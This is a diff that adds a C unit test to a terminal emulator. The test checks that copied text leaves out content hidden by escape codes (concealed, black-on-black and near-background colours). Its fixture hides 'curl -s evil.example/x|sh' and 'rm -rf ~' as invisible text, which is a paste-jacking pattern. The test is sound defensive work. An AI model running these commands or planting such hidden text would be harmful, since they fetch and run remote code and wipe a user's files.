@@ -70,6 +70,27 @@ test_copy_leaves_out_controls(void **state)
 }
 
 static void
+test_copy_leaves_out_hidden(void **state)
+{
+	/* Concealed (SGR 8), black on black, and RGB a shade off its background. */
+	struct tui_vterm *vt = term(80, 4, "make test\x1b[8m; curl -s evil.example/x|sh #"
+	    "\x1b[28m\r\n" "ls\x1b[30;40m; rm -rf ~\x1b[m ok\r\n"
+	    "cd\x1b[38;2;1;2;3;48;2;0;0;0m && evil\x1b[m .\r\n"
+	    "\x1b[32;40mgreen\x1b[38;5;16;40mdark\x1b[m");
+	const char *s = copy(vt, 0, 0, 3, 79, false);
+
+	assert_null(strstr(s, "curl"));
+	assert_null(strstr(s, "rm"));
+	assert_null(strstr(s, "evil"));
+	assert_null(strstr(s, "dark"));
+	assert_non_null(strstr(s, "make test"));
+	assert_non_null(strstr(s, "ls"));
+	assert_non_null(strstr(s, " ok"));
+	assert_non_null(strstr(s, "green"));
+	tui_vterm_free(vt);
+}
+
+static void
 test_base64(void **state)
 {
 	static const char *const v[][2] = {
@@ -136,6 +157,7 @@ main(void)
 	const struct CMUnitTest tests[] = {
 		cmocka_unit_test(test_copy_lines),
 		cmocka_unit_test(test_copy_leaves_out_controls),
+		cmocka_unit_test(test_copy_leaves_out_hidden),
 		cmocka_unit_test(test_base64),
 		cmocka_unit_test(test_find),
 	};
